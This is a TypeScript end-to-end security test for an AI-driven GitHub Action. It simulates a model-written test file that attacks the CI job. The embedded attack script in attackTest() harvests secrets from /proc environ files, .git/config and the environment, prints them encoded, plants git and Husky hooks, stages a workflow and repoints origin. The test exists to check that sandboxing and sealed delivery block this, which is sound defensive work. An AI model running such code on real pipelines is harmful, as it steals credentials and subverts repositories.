// Issue 11, the real attack through the bundle: the test agent writes a test file that, run by test-command,
// hunts for every secret of the job (the action's /proc/<pid>/environ, the credential actions/checkout
// persisted in .git/config, NPM_TOKEN / AWS keys / ACTIONS_RUNTIME_TOKEN in its environment) and prints what
// it found raw, base64-encoded and reversed; it stages a workflow with `git add -f`, installs a post-commit
// hook (and a Husky one) and points origin elsewhere. The fake model, the fake GitHub and a real bare origin
// record everything; nothing may leak, nothing but the run's files may reach the branch, no hook may run,
// the original origin gets the push, and the legitimate work is still delivered.
import { existsSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { startAgentsFake } from '../e2e/fakes.js';
import { git } from '../e2e/harness.js';
import { commentsOn, FEAT_BRANCH, PR_NUMBER, specBranchRepo, startSpecPrGitHub } from '../e2e/scenarios.js';
import { runBundle } from '../support/push.js';
import { labelEvent } from '../support/spec-pr.js';
import { useBundleTestResources } from '../support/test-resources.js';

const API_KEY = 'sk-ant-SEAL-api-key-0001';
const GH_TOKEN = 'ghs_SEALgithubtoken0002';
const PERSISTED_TOKEN = 'ghs_SEALpersisted0003';
const ENV_SECRETS = {
  NPM_TOKEN: 'npm_SEALnpmtoken0004',
  AWS_SECRET_ACCESS_KEY: 'SEALawssecretkey0005',
  ACTIONS_RUNTIME_TOKEN: 'SEALruntimetoken0006',
  DATABASE_URL: 'postgres://app:SEALdbpassword0007@db/app',
};
const PERSISTED_HEADER = Buffer.from(`x-access-token:${PERSISTED_TOKEN}`).toString('base64');
const SECRETS = [API_KEY, GH_TOKEN, PERSISTED_TOKEN, PERSISTED_HEADER, ...Object.values(ENV_SECRETS)];

/** A secret as the attack may print it: raw, reversed, or somewhere inside a base64 blob (any alignment). */
function forms(secret: string): string[] {
  const out = [secret, [...secret].reverse().join('')];
  for (let k = 0; k < 3; k++)
    out.push(
      Buffer.from('x'.repeat(k) + secret)
        .toString('base64')
        .slice(4, -4),
    );
  return out;
}

function expectNoLeak(where: string, text: string): void {
  for (const secret of SECRETS) {
    for (const form of forms(secret)) {
      expect(text.includes(form), `${where} carries ${secret} (as ${form})`).toBe(false);
    }
  }
}

/** The test file the "test agent" writes: the attack, and a test that passes once the fix agent fixed it. */
function attackTest(dir: string, elsewhere: string): string {
  return `import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
const loot = [];
const grab = (what, f) => { try { loot.push(what + '=' + f()); } catch (e) { loot.push(what + ' failed: ' + e.code); } };
grab('parent', () => readFileSync('/proc/' + process.ppid + '/environ', 'utf8'));
for (const pid of (() => { try { return readdirSync('/proc'); } catch { return []; } })().filter((p) => /^\\d+$/.test(p))) {
  grab('environ ' + pid, () => readFileSync('/proc/' + pid + '/environ', 'utf8'));
}
grab('git config', () => readFileSync('.git/config', 'utf8'));
grab('env', () => JSON.stringify(process.env));
const blob = loot.join('\\n');
console.log(blob);
console.log('b64:' + Buffer.from(blob).toString('base64'));
console.log('rev:' + [...blob].reverse().join(''));
const hook = '#!/bin/sh\\ntouch ${dir}/HOOK-RAN\\n';
const attempt = (what, f) => { try { f(); console.log(what + ': done'); } catch (e) { console.log(what + ': failed'); } };
attempt('workflow', () => { mkdirSync('.github/workflows', { recursive: true }); writeFileSync('.github/workflows/pwn.yml', 'on: push\\n'); });
attempt('git add -f', () => execFileSync('git', ['add', '-f', '.github/workflows/pwn.yml'], { stdio: 'ignore' }));
attempt('hook', () => { writeFileSync('.git/hooks/post-commit', hook); chmodSync('.git/hooks/post-commit', 0o755); });
attempt('husky', () => { mkdirSync('.husky', { recursive: true }); writeFileSync('.husky/post-commit', hook); chmodSync('.husky/post-commit', 0o755); execFileSync('git', ['config', 'core.hooksPath', '.husky'], { stdio: 'ignore' }); });
attempt('remote', () => execFileSync('git', ['remote', 'set-url', 'origin', ${JSON.stringify(elsewhere)}], { stdio: 'ignore' }));
if (!existsSync('src/fixed.txt')) { console.log('FAIL src/fixed.txt is missing'); process.exit(1); }
console.log('1 test passed');
`;
}

describe('model-written code run by test-command, through dist/index.js', () => {
  const resources = useBundleTestResources();

  async function attackRun(opts: { env?: Record<string, string>; inputs?: Record<string, string> } = {}) {
    const repo = resources.track(specBranchRepo());
    const elsewhere = join(repo.root, 'elsewhere.git');
    mkdirSync(elsewhere);
    git(elsewhere, 'init', '--quiet', '--bare');
    // What actions/checkout leaves behind with persist-credentials (the default).
    git(
      repo.work,
      'config',
      'http.https://github.com/.extraheader',
      `AUTHORIZATION: basic ${PERSISTED_HEADER}`,
    );
    const gh = resources.track(await startSpecPrGitHub());
    const anthropic = resources.track(
      await startAgentsFake({
        write: (id) => {
          if (id === 'task-008')
            return { path: 'tests/generated/attack.test.mjs', content: attackTest(repo.root, elsewhere) };
          if (id.startsWith('fix-')) return { path: 'src/fixed.txt', content: 'fixed\n' };
          return undefined;
        },
      }),
    );
    const inputs = {
      'anthropic-api-key': API_KEY,
      'github-token': GH_TOKEN,
      'test-command': 'node tests/generated/attack.test.mjs',
      'retry-timing': 'fast',
      ...(opts.inputs ?? {}),
    };
    const result = await runBundle(repo, { gh, anthropic }, 'pull_request', labelEvent(), inputs, {
      env: { ...ENV_SECRETS, ...(opts.env ?? {}) },
      timeoutMs: 120_000,
    });
    return { repo, gh, anthropic, result, elsewhere };
  }

  it('leaks nothing, pushes only the run files to the original origin, runs no hook, delivers the work', async () => {
    const { repo, gh, anthropic, result, elsewhere } = await attackRun();
    expect(result.code, result.stdout + result.stderr).toBe(0);
    expect(result.outputs.status, result.stdout).toBe('success');
    // The attack ran (twice: before and after the fix round) and its output reached the model and the PR.
    const pr = gh.state.pulls.find((p) => p.number !== PR_NUMBER)!;
    expect(pr.body).toContain('**Passed** after 1 fix round.');
    const fixPrompt = JSON.stringify(anthropic.requests.map((r) => r.body));
    expect(fixPrompt).toContain('FAIL src/fixed.txt is missing');

    // Nothing leaked to the model, the PR, the comments, the summary, the log or the branch.
    for (const [i, r] of anthropic.requests.entries())
      expectNoLeak(`model request ${i}`, JSON.stringify(r.body));
    expectNoLeak('PR body', pr.body ?? '');
    for (const c of commentsOn(gh, PR_NUMBER)) expectNoLeak(`comment ${c.id}`, c.body);
    expectNoLeak('job summary', result.summary);
    expectNoLeak(
      'stdout',
      result.stdout
        .split('\n')
        .filter((l) => !l.startsWith('::add-mask::'))
        .join('\n'),
    );
    expectNoLeak('origin history', git(repo.origin, 'log', '-p', '--all'));

    // Only the run's files on the branch, pushed to the original origin; no hook ran.
    const files = repo.originFiles(FEAT_BRANCH);
    expect(files).toContain('tests/generated/attack.test.mjs');
    expect(files).toContain('src/fixed.txt');
    expect(files.filter((f) => f.startsWith('.github/') || f.startsWith('.husky/'))).toEqual([]);
    expect(git(elsewhere, 'for-each-ref').trim()).toBe('');
    expect(existsSync(join(repo.root, 'HOOK-RAN'))).toBe(false);
  }, 180_000);

  it('without a sandbox: refuses before any model call and says how to enable it', async () => {
    const { anthropic, result, repo } = await attackRun({
      env: { IMPLEMENT_SPEC_BWRAP: '/nonexistent/bwrap' },
    });
    expect(result.code).not.toBe(0);
    const failure = result.commands.find((c) => c.command === 'error')?.message ?? '';
    expect(failure).toMatch(/no sandbox is available/i);
    expect(failure).toMatch(/apt-get install -y bubblewrap/);
    expect(failure).toMatch(/allow-unsandboxed-commands/);
    expect(anthropic.requests).toHaveLength(0);
    expect(git(repo.origin, 'for-each-ref', '--format=%(refname:short)').trim().split('\n')).not.toContain(
      FEAT_BRANCH,
    );
  }, 180_000);

  it('with allow-unsandboxed-commands: the sealed delivery alone keeps the branch and the remote clean', async () => {
    const { repo, result, elsewhere } = await attackRun({
      env: { IMPLEMENT_SPEC_BWRAP: '/nonexistent/bwrap' },
      inputs: { 'allow-unsandboxed-commands': 'true' },
    });
    expect(result.code, result.stdout + result.stderr).toBe(0);
    expect(result.outputs.status, result.stdout).toBe('success');
    // The attack did reach git this time: it staged the workflow, planted hooks and moved origin.
    expect(git(repo.work, 'remote', 'get-url', 'origin').trim()).toBe(elsewhere);
    const files = repo.originFiles(FEAT_BRANCH);
    expect(files).toContain('src/fixed.txt');
    expect(files.filter((f) => f.startsWith('.github/') || f.startsWith('.husky/'))).toEqual([]);
    expect(git(elsewhere, 'for-each-ref').trim()).toBe('');
    expect(existsSync(join(repo.root, 'HOOK-RAN'))).toBe(false);
  }, 180_000);
});
